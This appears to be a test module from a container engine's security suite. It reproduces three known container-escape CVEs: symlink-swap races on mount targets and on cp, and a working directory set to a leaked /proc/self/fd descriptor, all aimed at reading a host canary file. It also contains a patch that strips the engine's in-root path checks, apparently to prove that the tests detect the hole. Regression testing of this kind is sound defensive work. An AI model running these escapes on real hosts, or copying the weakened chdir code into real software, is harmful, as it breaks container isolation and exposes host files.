// Escapes by names that change while they are looked up, and by names of what the engine holds open.

import { mkdirSync } from "node:fs";
import { join } from "node:path";
import { tar } from "../images/tar.ts";
import { bindOf, type Escape, followed, type Removal } from "./escape.ts";
import type { World } from "./world.ts";

/** How often is tried what succeeds every other time where nothing holds it. */
const TRIES = 12;

/** A directory that a container's process swaps for a link to the machine, as fast as it can. */
const SWAPPED = (directory: string, canary: string): string =>
  `mkdir -p ${directory}/real; ln -s ${canary} ${directory}/link; touch ${directory}/ready; exec probe swap ${directory}/real ${directory}/link`;

async function* oneFile(name: string): AsyncGenerator<Uint8Array> {
  yield tar([{ name, content: "x" }]);
}

async function swapping(world: World, directory: string, mounts: ReturnType<typeof bindOf>[] = []) {
  const id = await world.background(SWAPPED(directory, world.canary), { mounts });
  while ((await world.exec(id, `cat ${directory}/ready`)).code !== 0);
  return id;
}

/** Descriptors that a process may have on its way into a container. */
const DESCRIPTORS = Array.from({ length: 8 }, (_, i) => i + 3);

/** A directory to start in is followed wherever it leads, and nobody looks where that was. */
const ANYWHERE: Removal = {
  source: [
    [
      "root.c",
      'OWNED fd = there ? in_root(path, O_DIRECTORY) : make_in_root(path, S_IFDIR, 255);\n  if (fd < 0 || fchdir(fd)) return because("chdir");',
      '(void)there;\n  if (chdir(path)) return because("chdir");',
    ],
    ["root.c", "return inside ? 0 :", "return inside || 1 ? 0 :"],
  ],
};

export const SWAPS: readonly Escape[] = [
  {
    ids: ["CVE-2021-30465", "CVE-2024-45310"],
    shape: "the target of a mount is swapped for a link to the machine by another container",
    protection:
      "a target is resolved once, by openat2(2) with RESOLVE_IN_ROOT, and mounted on as a descriptor",
    attempt: async (world) => {
      const [shared, source] = [join(world.base, "shared"), join(world.base, "source")];
      for (const path of [shared, source]) mkdirSync(path);
      const mounts = [bindOf(shared, "/s")];
      await swapping(world, "/s", mounts);
      for (let i = 0; i < TRIES && world.untouched(); i++) {
        await world.run("true", { mounts: [...mounts, bindOf(source, `/s/real/made${i}`)] });
      }
      return !world.untouched();
    },
    without: followed("real"),
  },
  {
    ids: ["CVE-2018-15664"],
    shape: "cp writes where the container swaps a directory for a link to the machine",
    protection: "names are resolved once, by openat2(2) with RESOLVE_IN_ROOT",
    attempt: async (world) => {
      const id = await swapping(world, "/w");
      await using files = await world.engine.containers.files(id);
      for (let i = 0; i < TRIES && world.untouched(); i++) {
        await files.write("/", oneFile(`w/real/made${i}`)).catch(() => undefined);
      }
      return !world.untouched();
    },
    without: followed("real"),
  },
  {
    ids: ["CVE-2024-21626"],
    shape: "a container starts in a directory that the engine has open, or who is executed in it",
    protection: "it is resolved without magic links, and must have a name inside of the root",
    attempt: async (world) => {
      const line = `cat ../..${world.canary}/secret ../../..${world.canary}/secret`;
      const id = await world.background("sleep 60");
      for (const descriptor of DESCRIPTORS) {
        const there = { workingDirectory: `/proc/self/fd/${descriptor}` };
        const all = [await world.run(line, there), await world.exec(id, line, there)];
        if (all.some(({ output }) => output.includes("the machine's own"))) return true;
      }
      return false;
    },
    without: ANYWHERE,
  },
];
